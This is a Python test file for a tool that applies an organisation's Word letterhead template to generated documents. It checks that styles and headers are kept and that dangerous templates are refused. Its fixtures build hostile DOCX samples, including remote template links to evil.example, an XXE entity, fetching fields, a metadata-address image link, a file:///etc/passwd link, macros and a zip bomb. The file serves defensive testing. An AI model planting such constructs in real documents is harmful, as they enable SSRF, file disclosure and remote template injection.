"""A secretariat's template keeps its own look, and nothing hostile comes in with it."""

from datetime import UTC, datetime
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import docx as python_docx
import pytest
from docx.enum.style import WD_STYLE_TYPE
from docx.oxml.ns import qn
from docx.shared import Cm, Pt
from matplotlib.backends.backend_agg import FigureCanvasAgg
from matplotlib.figure import Figure

from documents.agenda_file import example
from documents.blocks import (
    Document,
    Fields,
    Heading,
    Item,
    Items,
    Paragraph,
    Picture,
    Run,
    Table,
    plain,
)
from documents.concept_note import concept_note
from documents.docx_file import docx
from documents.letterhead import letterhead
from documents.reading.apart import read_apart
from documents.reading.refusing import Refused

AT = datetime(2021, 8, 1, tzinfo=UTC)


def drawn():
    figure = Figure(figsize=(2, 0.6), facecolor="#204060")
    FigureCanvasAgg(figure)
    made = BytesIO()
    figure.savefig(made, format="png")
    return made.getvalue()


def saved(made):
    kept = BytesIO()
    made.save(kept)
    return kept.getvalue()


def template(text=("An old letter.",)):
    """Return a template with a letterhead, a logo, and styles of its own, on Letter paper."""
    made = python_docx.Document()
    section = made.sections[0]
    section.page_width, section.page_height = Cm(21.59), Cm(27.94)
    section.left_margin = section.right_margin = Cm(3)
    made.styles["Normal"].font.name = "Georgia"
    made.styles["Normal"].font.size = Pt(11.5)
    made.styles["Heading 1"].font.name = "Georgia"
    made.styles["Heading 1"].font.size = Pt(17)
    for name in ("List Bullet", "List Number", "Table Grid", "Heading 3", "Caption"):
        style = made.styles[name].element
        style.getparent().remove(style)
    header = section.header.paragraphs[0]
    header.add_run().add_picture(BytesIO(drawn()), width=Cm(3))
    header.add_run("  Secretariat of the Conference")
    section.footer.paragraphs[0].text = "Av. Central 1, San José"
    for line in text:
        made.add_paragraph(line)
    return saved(made)


def changed(content, change):
    """Return a zip whose files went through `change(name, bytes)`; None leaves one out."""
    made = BytesIO()
    with ZipFile(BytesIO(content)) as given, ZipFile(made, "w", ZIP_DEFLATED) as archive:
        for name in given.namelist():
            new = change(name, given.read(name))
            if new is not None:
                archive.writestr(name, new)
    return made.getvalue()


def with_link(content, part, kind, target):
    link = (
        f'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )

    def change(name, kept):
        return kept.replace(b"</Relationships>", link.encode()) if name == part else kept

    return changed(content, change)


EVERYTHING = Document(
    "en",
    "Everything",
    "Footer",
    (
        Heading(0, plain("Everything")),
        Heading(1, plain("One"), new_page=True),
        Heading(3, plain("Three")),
        Paragraph((Run("Words", note=plain("A note")),)),
        Paragraph(plain("Quiet"), quiet=True),
        Items((Item(plain("bullet"), (plain("under"),)),)),
        Items((Item(plain("first")), Item(plain("second"))), numbered=True),
        Items((Item(plain("first again")),), numbered=True),
        Fields((("Label", plain("value")),)),
        Table(("A", "B"), ((plain("a"), plain("b")),), (1, 2)),
        Picture("p.png", drawn(), "What it shows", "Caption"),
    ),
)


def opened(made):
    return python_docx.Document(BytesIO(made))


def texts(made):
    return [line.text for line in read_apart(made, "made.docx").lines]


def test_the_template_s_letterhead_page_and_styles_are_kept():
    made = opened(docx(EVERYTHING, AT, letterhead(template(), "letterhead.docx")))
    section = made.sections[0]

    assert "Secretariat of the Conference" in section.header.paragraphs[0].text
    assert section.header.paragraphs[0]._p.findall(f".//{qn('w:drawing')}")
    assert section.footer.paragraphs[0].text == "Av. Central 1, San José"
    assert round(section.page_width.cm, 1) == 21.6
    assert made.styles["Normal"].font.name == "Georgia"
    assert made.styles["Heading 1"].font.size == Pt(17)


def test_the_text_takes_the_place_of_the_template_s_own():
    said = texts(docx(EVERYTHING, AT, letterhead(template(), "letterhead.docx")))

    assert "An old letter." not in said
    assert said[0] == "Everything"
    assert "1 A note" in said


def test_styles_that_the_template_lacks_are_added_in_its_typeface():
    made = opened(docx(EVERYTHING, AT, letterhead(template(), "letterhead.docx")))
    by_style = {p.text: p.style for p in made.paragraphs}

    assert by_style["Three"].name == "Heading 3"
    assert by_style["Three"].font.name is None
    assert by_style["Three"].base_style.name == "Normal"
    assert by_style["bullet"].name == "List Bullet"
    assert made.tables[0].style.name == "Table Grid"
    assert by_style["Quiet"].type == WD_STYLE_TYPE.PARAGRAPH


def test_every_style_and_number_that_the_text_uses_is_there():
    made = opened(docx(EVERYTHING, AT, letterhead(template(), "letterhead.docx")))
    known = {style.style_id for style in made.styles}
    used = {
        style.get(qn("w:val"))
        for tag in ("w:pStyle", "w:rStyle", "w:tblStyle")
        for style in made.element.body.iter(qn(tag))
    }
    numbering = made.part.numbering_part.element
    numbers = {num.numId for num in numbering.iterchildren(qn("w:num"))}
    given = [int(n.get(qn("w:val"))) for n in made.element.body.iter(qn("w:numId"))]

    assert used <= known
    assert set(given) <= numbers
    by_text = {
        p.text: p._p.pPr.numPr.numId.val
        for p in made.paragraphs
        if p._p.pPr is not None and p._p.pPr.numPr is not None
    }
    assert by_text["first"] == by_text["second"] != by_text["first again"]


def test_a_template_of_word_in_spanish_keeps_its_own_headings():
    def in_spanish(name, content):
        if name == "word/styles.xml":
            return content.replace(b'w:styleId="Heading1"', b'w:styleId="Ttulo1"').replace(
                b'w:val="Heading1"', b'w:val="Ttulo1"'
            )
        return content

    given = letterhead(changed(template(), in_spanish), "membrete.docx")
    made = opened(docx(EVERYTHING, AT, given))

    one = next(p for p in made.paragraphs if p.text == "One")
    assert one._p.pPr.pStyle.val == "Ttulo1"
    assert one.style.font.size == Pt(17)


def test_the_text_goes_where_the_template_has_its_mark():
    given = letterhead(template(("Dear all,", "{{plenary}}", "Yours")), "letterhead.docx")
    said = texts(docx(EVERYTHING, AT, given))

    assert said[0] == "Dear all,"
    assert said[1] == "Everything"
    assert "Yours" in said
    assert "{{plenary}}" not in said


def test_a_mark_where_no_document_can_stand_is_refused():
    given = letterhead(template(("Here: {{plenary}} it goes",)), "letterhead.docx")

    with pytest.raises(Refused, match="inside a table, a text box or a sentence"):
        docx(EVERYTHING, AT, given)


def test_a_template_without_a_footer_gets_the_pages_numbers():
    made = opened(docx(EVERYTHING, AT, letterhead(saved(python_docx.Document()), "plain.docx")))

    assert made.sections[0].footer.paragraphs[0].text.startswith("Footer\tPage ")


def test_a_template_without_numbering_gets_lists():
    def without(name, content):
        if name == "word/numbering.xml":
            return None
        if name == "word/_rels/document.xml.rels":
            return b"".join(
                part if b"/numbering" not in part else b""
                for part in content.replace(b"/>", b"/>\n").splitlines(keepends=True)
            )
        if name == "[Content_Types].xml":
            return b"".join(
                part if b"numbering" not in part else b""
                for part in content.replace(b"/>", b"/>\n").splitlines(keepends=True)
            )
        return content

    made = opened(docx(EVERYTHING, AT, letterhead(changed(template(), without), "plain.docx")))

    assert all(p._p.pPr.numPr is not None for p in made.paragraphs if p.text == "bullet")


def test_the_header_of_an_earlier_section_is_kept_when_its_text_goes():
    first = python_docx.Document(BytesIO(template()))
    first.add_section()
    made = opened(docx(EVERYTHING, AT, letterhead(saved(first), "two.docx")))

    assert len(made.sections) == 1
    assert "Secretariat of the Conference" in made.sections[0].header.paragraphs[0].text


def test_tables_are_as_wide_as_the_template_s_margins_leave():
    made = opened(docx(EVERYTHING, AT, letterhead(template(), "letterhead.docx")))
    widths = [int(c.get(qn("w:w"))) for c in made.tables[0]._tbl.iter(qn("w:gridCol"))]

    assert abs(sum(widths) - 8838) < 10  # 15.59 cm in twentieths of a point


def test_a_word_template_is_taken_as_a_document_is():
    def as_template(name, content):
        if name == "[Content_Types].xml":
            return content.replace(b"document.main+xml", b"template.main+xml")
        return content

    given = letterhead(changed(template(), as_template), "letterhead.dotx")

    assert texts(docx(EVERYTHING, AT, given))[0] == "Everything"


def test_the_link_to_the_template_s_own_template_is_left_out():
    given = with_link(
        template(), "word/_rels/settings.xml.rels", "attachedTemplate", "http://evil.example/x.dotm"
    )
    given = with_link(
        given, "word/_rels/document.xml.rels", "attachedTemplate", "http://evil.example/x.dotm"
    )
    made = docx(EVERYTHING, AT, letterhead(given, "letterhead.docx"))

    with ZipFile(BytesIO(made)) as archive:
        assert not any(b"evil.example" in archive.read(name) for name in archive.namelist())


def test_a_link_of_the_letterhead_is_kept():
    given = with_link(template(), "word/_rels/document.xml.rels", "hyperlink", "https://crmsv.org/")

    assert letterhead(given, "letterhead.docx")


def test_a_field_that_fetches_nothing_is_kept():
    given = changed(
        template(),
        lambda name, kept: (
            kept.replace(
                b"<w:body>",
                b'<w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> '
                b'HYPERLINK "https://crmsv.org/include link" </w:instrText></w:r></w:p>',
            )
            if name == "word/document.xml"
            else kept
        ),
    )

    assert letterhead(given, "letterhead.docx")


def test_the_footnotes_and_comments_of_the_template_s_own_text_are_not_sent_on():
    old = docx(Document("en", "Old", "", (Paragraph((Run("Old", note=plain("Old note")),)),)), AT)
    commented = python_docx.Document(BytesIO(old))
    commented.add_comment(commented.paragraphs[0].runs, "An old remark", "Ana")
    made = docx(EVERYTHING, AT, letterhead(saved(commented), "letterhead.docx"))

    with ZipFile(BytesIO(made)) as archive:
        whole = b"".join(archive.read(name) for name in archive.namelist())
    assert b"Old note" not in whole
    assert b"An old remark" not in whole
    assert "1 A note" in texts(made)


def test_a_template_with_footnotes_around_its_mark_keeps_them():
    letter = (
        Paragraph((Run("Dear all", note=plain("As agreed")),)),
        Paragraph(plain("{{plenary}}")),
        Paragraph(plain("Yours")),
    )
    given = letterhead(docx(Document("en", "Letter", "", letter), AT), "letterhead.docx")
    said = texts(docx(EVERYTHING, AT, given))

    assert "Dear all1" in said
    assert {"1 As agreed", "2 A note"} <= set(said)


def test_the_same_template_document_and_instant_are_the_same_bytes():
    given = letterhead(template(), "letterhead.docx")

    assert docx(EVERYTHING, AT, given) == docx(EVERYTHING, AT, given)


def test_a_whole_concept_note_fits_a_template():
    note = concept_note(example("ii-plenary-2021"), "es")
    given = letterhead(template(), "letterhead.docx")

    assert texts(docx(note, AT, given)) == texts(docx(note, AT))


def bomb():
    made = BytesIO()
    with ZipFile(made, "w", ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b" " * 50_000_000)
    return made.getvalue()


def random_bytes():
    return b"<w:hdr>" + bytes(range(256)) * 10


def with_entity(content):
    def change(name, kept):
        if name == "word/document.xml":
            return (
                b'<!DOCTYPE x [<!ENTITY a SYSTEM "http://127.0.0.1:1/">]>'
                + kept[kept.find(b"<w:") :]
            )
        return kept

    return changed(content, change)


def with_field(content):
    def change(name, kept):
        if name == "word/document.xml":
            field = (
                b"<w:p><w:r><w:instrText> INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "
                b'"http://evil.example/x.png"</w:instrText></w:r></w:p>'
            )
            return kept.replace(b"<w:body>", b"<w:body>" + field)
        return kept

    return changed(content, change)


def with_macros(content):
    def change(name, kept):
        if name == "[Content_Types].xml":
            return kept.replace(
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                b"application/vnd.ms-word.document.macroEnabled.main+xml",
            )
        return kept

    return changed(content, change)


@pytest.mark.parametrize(
    ("content", "name", "says"),
    [
        (lambda: b"Dear all", "letterhead.docx", "damaged|is called .docx but is plain text"),
        (lambda: b"%PDF-1.7\n", "letterhead.docx", "is called .docx but is a PDF"),
        (lambda: b"%PDF-1.7\n", "letterhead", "is a PDF"),
        (lambda: b"\xd0\xcf\x11\xe0" + b"x" * 99, "letterhead.doc", "is an old Word"),
        (lambda: template()[:3000], "letterhead.docx", "is damaged"),
        (lambda: b"PK\x03\x04" + b"x" * 21_000_000, "letterhead.docx", "is larger than 20 MB"),
        (bomb, "letterhead.docx", "unfolds into far more"),
        (lambda: with_macros(template()), "letterhead.docm", "holds macros"),
        (lambda: with_entity(template()), "letterhead.docx", "declares entities"),
        (lambda: with_field(template()), "letterhead.docx", "fetches something from outside"),
        (
            lambda: with_link(
                template(), "word/_rels/document.xml.rels", "image", "http://169.254.169.254/x.png"
            ),
            "letterhead.docx",
            r"loads something from outside it \(http://169.254.169.254/x.png\)",
        ),
        (
            lambda: with_link(
                template(), "word/_rels/document.xml.rels", "hyperlink", "file:///etc/passwd"
            ),
            "letterhead.docx",
            "loads something from outside",
        ),
        (
            lambda: with_link(
                template(), "word/_rels/document.xml.rels", "oleObject", "http://evil.example/x"
            ),
            "letterhead.docx",
            "holds an embedded object",
        ),
        (
            lambda: changed(template(), lambda n, c: None if n == "word/styles.xml" else c),
            "letterhead.docx",
            "is damaged",
        ),
        (
            lambda: changed(
                template(),
                lambda n, c: c + bytes(100) if n != "word/header1.xml" else random_bytes(),
            ),
            "letterhead.docx",
            "is damaged|unfolds",
        ),
        (
            lambda: changed(template(), lambda n, c: None if n == "word/document.xml" else c),
            "letterhead.docx",
            "is damaged",
        ),
    ],
)  # fmt: skip
def test_a_hostile_or_broken_template_is_refused_in_a_sentence(content, name, says):
    with pytest.raises(Refused, match=says) as refused:
        letterhead(content(), name)

    assert refused.value.instead.endswith(".")
